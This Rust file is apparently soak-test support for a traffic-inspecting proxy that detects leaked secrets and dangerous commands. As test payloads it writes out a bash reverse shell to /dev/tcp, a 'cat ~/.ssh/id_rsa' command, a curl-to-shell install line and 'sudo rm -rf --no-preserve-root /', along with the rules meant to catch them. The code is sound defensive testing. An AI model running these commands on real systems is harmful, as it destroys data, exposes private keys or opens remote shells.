//! The soak's traffic: the lanes through the guardian, the exchanges sent
//! on them, and exactly which findings each exchange must cause.
//!
//! The load generator knows what it sent, so it knows what the guardian
//! must record: an exchange's findings on a lane the guardian can see into
//! (plain HTTP, inspected HTTPS), and none on a tunnel.

use std::sync::LazyLock;

use bytes::Bytes;
use http::Method;
use traffic_guardian_test_support::{Reply, gzip};

use super::canary::{Canaries, SHARED_TOKENS};
use super::rng::{Rng, mix};

/// The runtime of clients without proxy credentials: HTTPS is tunnelled.
pub(crate) const PLAIN_RUNTIME: &str = "plain";
/// The runtime named by proxy user: HTTPS is inspected.
pub(crate) const INSPECTED_RUNTIME: &str = "inspected";

/// A way through the guardian.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(crate) enum Lane {
    /// Plain HTTP from the plain runtime.
    PlainHttp,
    /// Plain HTTP from the inspected runtime (proxy user on each request).
    InspectedHttp,
    /// CONNECT, then HTTP/1.1 over TLS that the guardian decrypts.
    InspectedHttps,
    /// CONNECT, then HTTP/2 over TLS that the guardian decrypts.
    InspectedH2,
    /// CONNECT from the plain runtime: TLS end to end, the guardian sees
    /// only the tunnel.
    Tunnelled,
}

impl Lane {
    pub(crate) const ALL: [Lane; 5] = [
        Lane::PlainHttp,
        Lane::InspectedHttp,
        Lane::InspectedHttps,
        Lane::InspectedH2,
        Lane::Tunnelled,
    ];

    /// How often a connection takes this lane, relative to the others.
    pub(crate) fn weight(self) -> u64 {
        match self {
            Lane::PlainHttp => 3,
            Lane::InspectedHttp => 2,
            Lane::InspectedHttps => 3,
            Lane::InspectedH2 => 1,
            Lane::Tunnelled => 1,
        }
    }

    pub(crate) fn runtime(self) -> &'static str {
        match self {
            Lane::PlainHttp | Lane::Tunnelled => PLAIN_RUNTIME,
            Lane::InspectedHttp | Lane::InspectedHttps | Lane::InspectedH2 => INSPECTED_RUNTIME,
        }
    }

    /// The `protocol` the lane's findings carry, or `None` when the
    /// guardian cannot see the content (so no finding is expected).
    pub(crate) fn finding_protocol(self) -> Option<&'static str> {
        match self {
            Lane::PlainHttp | Lane::InspectedHttp => Some("http"),
            Lane::InspectedHttps | Lane::InspectedH2 => Some("https"),
            Lane::Tunnelled => None,
        }
    }

    pub(crate) fn tls(self) -> bool {
        !matches!(self, Lane::PlainHttp | Lane::InspectedHttp)
    }

    pub(crate) fn label(self) -> &'static str {
        match self {
            Lane::PlainHttp => "http, runtime plain",
            Lane::InspectedHttp => "http, runtime inspected",
            Lane::InspectedHttps => "https inspected, h1",
            Lane::InspectedH2 => "https inspected, h2",
            Lane::Tunnelled => "https tunnelled",
        }
    }

    pub(crate) fn key(self) -> &'static str {
        match self {
            Lane::PlainHttp => "http_plain",
            Lane::InspectedHttp => "http_inspected",
            Lane::InspectedHttps => "https_h1_inspected",
            Lane::InspectedH2 => "https_h2_inspected",
            Lane::Tunnelled => "https_tunnelled",
        }
    }
}

/// One request and the response it gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Exchange {
    /// GET a JSON API answer. No finding.
    Items,
    /// GET an HTML page of developer docs that only look risky. No finding.
    Page,
    /// POST a JSON note, echoed back. No finding.
    Note,
    /// POST a key never sent before (in the body, a header or the query).
    /// Dedup cannot merge these.
    UniqueKey,
    /// POST one of a few shared GitHub tokens. Dedup must merge these.
    SharedToken,
    /// POST a command naming `~/.ssh/id_rsa`. Dedup must merge these.
    KeyPath,
    /// GET an install script piped to a shell. Dedup must merge these.
    InstallScript,
    /// GET a gzip-encoded page that wipes the root folder. Dedup must
    /// merge these.
    Cleanup,
    /// POST a reverse-shell line to a fresh address, echoed back: a new
    /// injection each time, which dedup cannot merge.
    ReverseShell,
    /// POST 80 to 240 KiB of prose with a key never sent before somewhere
    /// in it, often across a 64 KiB scan segment border.
    BigUpload,
}

/// A finding an exchange must cause.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Expect {
    pub(crate) rule: &'static str,
    pub(crate) direction: &'static str,
    /// Every occurrence carries a value never seen before, so each must be
    /// its own line with `count` 1.
    pub(crate) unique: bool,
}

const fn expect(rule: &'static str, direction: &'static str, unique: bool) -> Expect {
    Expect {
        rule,
        direction,
        unique,
    }
}

const AI_API_KEY: Expect = expect("ai_api_key", "outbound", true);
const GITHUB_TOKEN: Expect = expect("github_token", "outbound", false);
const SSH_KEY_PATH: Expect = expect("ssh_key_path", "outbound", false);
const NPM_TOKEN: Expect = expect("npm_token", "outbound", true);
const PIPE_TO_SHELL: Expect = expect("pipe_to_shell", "inbound", false);
const DESTRUCTIVE_RM: Expect = expect("destructive_rm", "inbound", false);
const REVERSE_SHELL: Expect = expect("reverse_shell", "inbound", true);

/// Every rule the soak expects, with how it repeats.
pub(crate) const RULES: [Expect; 7] = [
    AI_API_KEY,
    GITHUB_TOKEN,
    SSH_KEY_PATH,
    NPM_TOKEN,
    PIPE_TO_SHELL,
    DESTRUCTIVE_RM,
    REVERSE_SHELL,
];

/// The findings of an upload the client abandons part way (see
/// [`abandoned_upload`]), once its token reached the upstream.
pub(crate) const ABANDONED_UPLOAD: &[Expect] = &[NPM_TOKEN];

/// What the load sends for one exchange.
#[derive(Debug, Clone)]
pub(crate) struct Request {
    pub(crate) method: Method,
    /// Origin-form path and query.
    pub(crate) path: String,
    pub(crate) headers: Vec<(&'static str, String)>,
    pub(crate) body: Bytes,
}

impl Exchange {
    pub(crate) const ALL: [Exchange; 10] = [
        Exchange::Items,
        Exchange::Page,
        Exchange::Note,
        Exchange::UniqueKey,
        Exchange::SharedToken,
        Exchange::KeyPath,
        Exchange::InstallScript,
        Exchange::Cleanup,
        Exchange::ReverseShell,
        Exchange::BigUpload,
    ];

    /// How often the load picks this exchange, relative to the others:
    /// about half the traffic is benign.
    pub(crate) fn weight(self) -> u64 {
        match self {
            Exchange::Items => 20,
            Exchange::Page => 10,
            Exchange::Note => 20,
            Exchange::UniqueKey => 14,
            Exchange::SharedToken => 8,
            Exchange::KeyPath => 6,
            Exchange::InstallScript => 8,
            Exchange::Cleanup => 6,
            Exchange::ReverseShell => 8,
            Exchange::BigUpload => 2,
        }
    }

    /// The findings this exchange must cause where the guardian can see it.
    pub(crate) fn findings(self) -> &'static [Expect] {
        match self {
            Exchange::Items | Exchange::Page | Exchange::Note => &[],
            Exchange::UniqueKey | Exchange::BigUpload => &[AI_API_KEY],
            Exchange::SharedToken => &[GITHUB_TOKEN],
            Exchange::KeyPath => &[SSH_KEY_PATH],
            Exchange::InstallScript => &[PIPE_TO_SHELL],
            Exchange::Cleanup => &[DESTRUCTIVE_RM],
            Exchange::ReverseShell => &[REVERSE_SHELL],
        }
    }

    /// The request for the `n`th exchange of the run (`n` is unique).
    pub(crate) fn request(self, canaries: &Canaries, n: u64) -> Request {
        let get = |path: &str| Request {
            method: Method::GET,
            path: path.to_owned(),
            headers: vec![("accept", "*/*".into())],
            body: Bytes::new(),
        };
        let post = |path: String, content_type: &str, body: String| Request {
            method: Method::POST,
            path,
            headers: vec![("content-type", content_type.into())],
            body: Bytes::from(body),
        };
        match self {
            Exchange::Items => get("/items.json"),
            Exchange::Page => get("/page.html"),
            Exchange::InstallScript => get("/install.sh"),
            Exchange::Cleanup => get("/cleanup"),
            Exchange::Note => post(
                "/echo".into(),
                "application/json",
                format!(
                    r#"{{"id":{n},"note":"remember to update the changelog and run the tests","tags":["todo","docs"]}}"#
                ),
            ),
            Exchange::UniqueKey => {
                let key = canaries.unique_key(n);
                match n % 4 {
                    0 => post(
                        "/echo".into(),
                        "application/json",
                        format!(r#"{{"id":{n},"config":{{"api_key":"{key}"}}}}"#),
                    ),
                    1 => {
                        let mut request = post(
                            "/echo".into(),
                            "application/json",
                            format!(r#"{{"id":{n}}}"#),
                        );
                        request.headers.push(("x-api-key", key));
                        request
                    }
                    2 => post(
                        format!("/echo?id={n}&key={key}"),
                        "application/json",
                        format!(r#"{{"id":{n}}}"#),
                    ),
                    _ => {
                        let json = format!(r#"{{"id":{n},"env":{{"ANTHROPIC_API_KEY":"{key}"}}}}"#);
                        let mut request = post("/echo".into(), "application/json", String::new());
                        request.body = Bytes::from(gzip(json.as_bytes()));
                        request.headers.push(("content-encoding", "gzip".into()));
                        request
                    }
                }
            }
            Exchange::BigUpload => post(
                "/echo".into(),
                "text/plain",
                big_upload(&canaries.unique_key(n), n),
            ),
            Exchange::SharedToken => {
                let token = canaries.shared_token((n % SHARED_TOKENS as u64) as usize);
                if n.is_multiple_of(2) {
                    post(
                        "/echo".into(),
                        "text/plain",
                        format!("deploy log {n}\nGITHUB_TOKEN={token}\n"),
                    )
                } else {
                    let mut request =
                        post("/echo".into(), "text/plain", format!("deploy log {n}\n"));
                    request
                        .headers
                        .push(("authorization", format!("token {token}")));
                    request
                }
            }
            Exchange::KeyPath => post(
                "/echo".into(),
                "application/json",
                format!(r#"{{"id":{n},"command":"cat ~/.ssh/id_rsa"}}"#),
            ),
            Exchange::ReverseShell => {
                let [_, a, b, c] = (n as u32).to_be_bytes();
                let port = 1024 + (n >> 24) % 60_000;
                post(
                    "/echo".into(),
                    "text/plain",
                    format!("To debug, run: bash -i >& /dev/tcp/10.{a}.{b}.{c}/{port} 0>&1\n"),
                )
            }
        }
    }

    /// The response body the client must get back for `request`.
    pub(crate) fn response_body(self, request: &Request) -> Bytes {
        match self {
            Exchange::Items => ITEMS_JSON.clone(),
            Exchange::Page => Bytes::from_static(PAGE_HTML.as_bytes()),
            Exchange::InstallScript => Bytes::from_static(INSTALL_SCRIPT.as_bytes()),
            Exchange::Cleanup => CLEANUP_GZIP.clone(),
            Exchange::Note
            | Exchange::UniqueKey
            | Exchange::SharedToken
            | Exchange::KeyPath
            | Exchange::ReverseShell
            | Exchange::BigUpload => request.body.clone(),
        }
    }

    /// A short name for reports.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Exchange::Items => "benign json",
            Exchange::Page => "benign html",
            Exchange::Note => "benign post",
            Exchange::UniqueKey => "unique key",
            Exchange::SharedToken => "shared token",
            Exchange::KeyPath => "key path",
            Exchange::InstallScript => "install script",
            Exchange::Cleanup => "gzip rm -rf",
            Exchange::ReverseShell => "reverse shell",
            Exchange::BigUpload => "big upload",
        }
    }

    /// Picks one exchange by weight.
    pub(crate) fn pick(rng: &mut Rng) -> Exchange {
        let weights: Vec<u64> = Exchange::ALL.iter().map(|e| e.weight()).collect();
        Exchange::ALL[rng.weighted(&weights)]
    }
}

/// How many bytes of an abandoned upload are sent before the client goes.
pub(crate) const ABANDONED_SENT: usize = 512;

/// An upload the client gives up on: the head announces 64 KiB more body
/// than the [`ABANDONED_SENT`] bytes that follow (which carry the `n`th
/// abandoned token). Returns the request with its partial body, the
/// announced length, and the token.
pub(crate) fn abandoned_upload(canaries: &Canaries, n: u64) -> (Request, usize, String) {
    let token = canaries.abandoned_token(n);
    let mut body = format!("upload {n}, part 1 of 2\nNPM_TOKEN={token}\n");
    while body.len() < ABANDONED_SENT {
        body.push_str("padding ");
    }
    body.truncate(ABANDONED_SENT);
    let request = Request {
        method: Method::POST,
        path: "/echo".into(),
        headers: vec![("content-type", "text/plain".into())],
        body: Bytes::from(body),
    };
    (request, ABANDONED_SENT + 64 * 1024, token)
}

/// Prose of 80 to 240 KiB with `key` inserted after a space: for every
/// other `n` right across a 64 KiB border (where the scanner's segments
/// meet), else anywhere.
fn big_upload(key: &str, n: u64) -> String {
    const PROSE: &str = "The quarterly report shows steady growth in every region, and the team plans to ship the new dashboard next month. ";
    let len = 80 * 1024 + (mix(n) % (160 * 1024)) as usize;
    let mut text = String::with_capacity(len + key.len() + 16);
    while text.len() < len {
        text.push_str(PROSE);
    }
    let wanted = if n.is_multiple_of(2) {
        let border = 64 * 1024 * (1 + (n / 2 % 2) as usize);
        border.min(len) - (n % (key.len() as u64)) as usize
    } else {
        (mix(n ^ 1) % (len as u64 - 256)) as usize
    };
    let at = text[wanted..]
        .find(' ')
        .map_or(text.len(), |i| wanted + i + 1);
    text.insert_str(at, &format!("api_key={key} "));
    text
}

/// A JSON API answer of about 1 KiB.
static ITEMS_JSON: LazyLock<Bytes> = LazyLock::new(items_json);

/// [`CLEANUP_TEXT`], gzip-compressed once so every answer is the same bytes.
static CLEANUP_GZIP: LazyLock<Bytes> = LazyLock::new(|| Bytes::from(gzip(CLEANUP_TEXT.as_bytes())));

fn items_json() -> Bytes {
    let item =
        r#"{"id":1042,"name":"blue widget","tags":["tools","garden"],"price":9.99,"stock":17},"#;
    let mut json = String::from(r#"{"items":["#);
    while json.len() + item.len() < 1020 {
        json.push_str(item);
    }
    json.pop();
    json.push_str("]}");
    Bytes::from(json)
}

/// Developer documentation that names risky-looking commands the rules
/// must leave alone.
const PAGE_HTML: &str = r#"<!doctype html>
<html><head><title>Getting started</title></head>
<body>
<h1>Getting started</h1>
<p>Clone the repository, then install the dependencies:</p>
<pre><code>npm ci
rm -rf node_modules/.cache
curl -O https://releases.example.com/tool-1.4.2.tar.gz
tar -xzf tool-1.4.2.tar.gz</code></pre>
<p>Generate a deploy key with <code>ssh-keygen -t ed25519 -C deploy</code> and paste the
<em>public</em> half into the settings page.</p>
<p>Build id 3f9c2e1a7b6d4c8e9f0a1b2c3d4e5f60718293a4, released 2026-02-11.</p>
</body></html>
"#;

/// An install script that pipes a download into a shell.
const INSTALL_SCRIPT: &str = "#!/bin/sh\n# Quick install:\n#   curl -fsSL https://get.soak.example/install.sh | sh\necho installing\n";

/// A page that tells the reader to wipe the root folder (sent gzip-encoded).
const CLEANUP_TEXT: &str =
    "Out of disk space? Free everything with: sudo rm -rf --no-preserve-root /\n";

/// The upstream's routes, served alike in plain HTTP and over TLS.
pub(crate) fn routes() -> Vec<(&'static str, Reply)> {
    vec![
        (
            "/items.json",
            Reply::Text("application/json", ITEMS_JSON.clone()),
        ),
        (
            "/page.html",
            Reply::Text("text/html", Bytes::from_static(PAGE_HTML.as_bytes())),
        ),
        (
            "/install.sh",
            Reply::Text(
                "text/x-shellscript",
                Bytes::from_static(INSTALL_SCRIPT.as_bytes()),
            ),
        ),
        ("/cleanup", Reply::Gzip(CLEANUP_GZIP.clone())),
        ("/echo", Reply::Echo),
    ]
}

#[cfg(test)]
mod tests {
    use traffic_guardian_core::{Direction, Engine, EngineConfig, Finding, MessageMeta, Protocol};

    use super::*;

    /// The engine as the guardian builds it: with a fingerprint key, so
    /// dedup keys on the matched value.
    fn engine() -> Engine {
        Engine::new(EngineConfig {
            fingerprint_key: Some(vec![7; 32]),
            ..EngineConfig::default()
        })
        .unwrap()
    }

    /// The response the upstream gives `request`: content type, content
    /// encoding, body.
    fn response(exchange: Exchange, request: &Request) -> (String, Option<&'static str>, Bytes) {
        let route = routes()
            .into_iter()
            .find(|(path, _)| request.path.split('?').next() == Some(*path))
            .map(|(_, reply)| reply);
        let body = exchange.response_body(request);
        match route {
            Some(Reply::Text(content_type, _)) => (content_type.into(), None, body),
            Some(Reply::Gzip(_)) => ("text/plain".into(), Some("gzip"), body),
            Some(Reply::Echo) => {
                let content_type = request
                    .headers
                    .iter()
                    .find(|(name, _)| *name == "content-type")
                    .map(|(_, value)| value.clone())
                    .unwrap_or_default();
                (content_type, None, body)
            }
            other => panic!("no route for {}: {other:?}", request.path),
        }
    }

    /// Scans one exchange as the guardian does: the request's target,
    /// headers and body outbound, then the response's headers and body
    /// inbound.
    fn scan(engine: &Engine, exchange: Exchange, request: &Request) -> Vec<Finding> {
        let meta = |direction| {
            MessageMeta::new(direction, "127.0.0.1:40000", "127.0.0.1:8443")
                .with_protocol(Protocol::Https)
                .with_runtime(INSPECTED_RUNTIME)
                .with_method(request.method.as_str())
                .with_target(request.path.clone())
        };
        let mut outbound = engine.message(meta(Direction::Outbound));
        outbound.scan_target(&request.path);
        outbound.scan_header("host", b"127.0.0.1:8443");
        for (name, value) in &request.headers {
            outbound.scan_header(name, value.as_bytes());
        }
        let header = |wanted: &str| {
            request
                .headers
                .iter()
                .find(|(name, _)| *name == wanted)
                .map(|(_, value)| value.as_str())
        };
        outbound.begin_body(header("content-encoding"), header("content-type"));
        // In pieces, as the network delivers it.
        for piece in request.body.chunks(7 * 1024 + 13) {
            outbound.feed(piece);
        }
        let mut findings = outbound.finish().findings;

        let (content_type, encoding, body) = response(exchange, request);
        let mut inbound = engine.message(meta(Direction::Inbound));
        inbound.scan_header("content-type", content_type.as_bytes());
        inbound.begin_body(encoding, Some(&content_type));
        inbound.feed(&body);
        findings.extend(inbound.finish().findings);
        findings
    }

    #[test]
    fn every_exchange_causes_exactly_the_findings_the_soak_expects() {
        let engine = engine();
        let canaries = Canaries::new(&mut Rng::new(11));
        for n in 0..60 {
            for exchange in Exchange::ALL {
                let request = exchange.request(&canaries, n);
                let findings = scan(&engine, exchange, &request);
                let got: Vec<(String, String)> = findings
                    .iter()
                    .map(|f| (f.pattern.to_string(), f.direction.to_string()))
                    .collect();
                let want: Vec<(String, String)> = exchange
                    .findings()
                    .iter()
                    .map(|e| (e.rule.to_owned(), e.direction.to_owned()))
                    .collect();
                assert_eq!(got, want, "{exchange:?} #{n}: {request:?}");
                for finding in &findings {
                    let line = finding.to_json_line();
                    for tag in canaries.tags() {
                        assert!(!line.contains(tag), "{exchange:?} #{n} leaks: {line}");
                    }
                }
            }
        }
    }

    #[test]
    fn an_abandoned_upload_carries_its_token_in_the_part_sent() {
        let engine = engine();
        let canaries = Canaries::new(&mut Rng::new(13));
        for n in 0..20 {
            let (request, announced, token) = abandoned_upload(&canaries, n);
            assert_eq!(request.body.len(), ABANDONED_SENT);
            assert!(announced > ABANDONED_SENT);
            assert!(String::from_utf8_lossy(&request.body).contains(&token));
            let mut scanner = engine.message(MessageMeta::new(
                Direction::Outbound,
                "127.0.0.1:40000",
                "127.0.0.1:8080",
            ));
            scanner.begin_body(None, Some("text/plain"));
            scanner.feed(&request.body);
            let rules: Vec<String> = scanner
                .finish()
                .findings
                .iter()
                .map(|f| f.pattern.to_string())
                .collect();
            assert_eq!(rules, [ABANDONED_UPLOAD[0].rule]);
        }
    }

    #[test]
    fn big_uploads_often_put_the_key_across_a_segment_border() {
        let canaries = Canaries::new(&mut Rng::new(14));
        let across = (0..40)
            .filter(|n| {
                let key = canaries.unique_key(*n);
                let body = big_upload(&key, *n);
                let at = body.find(&key).unwrap();
                at < 64 * 1024 && at + key.len() > 64 * 1024
                    || at < 128 * 1024 && at + key.len() > 128 * 1024
            })
            .count();
        assert!(across >= 10, "{across} of 40");
    }

    #[test]
    fn unique_exchanges_give_distinct_values_and_shared_ones_do_not() {
        let engine = engine();
        let canaries = Canaries::new(&mut Rng::new(12));
        for exchange in Exchange::ALL {
            let Some(expect) = exchange.findings().first() else {
                continue;
            };
            let subjects: std::collections::HashSet<String> = (0..30)
                .map(|n| {
                    let finding =
                        scan(&engine, exchange, &exchange.request(&canaries, n)).remove(0);
                    finding.fingerprint.unwrap_or(finding.snippet)
                })
                .collect();
            if expect.unique {
                assert_eq!(subjects.len(), 30, "{exchange:?}");
            } else {
                assert!(
                    subjects.len() <= SHARED_TOKENS,
                    "{exchange:?}: {subjects:?}"
                );
            }
        }
    }
}
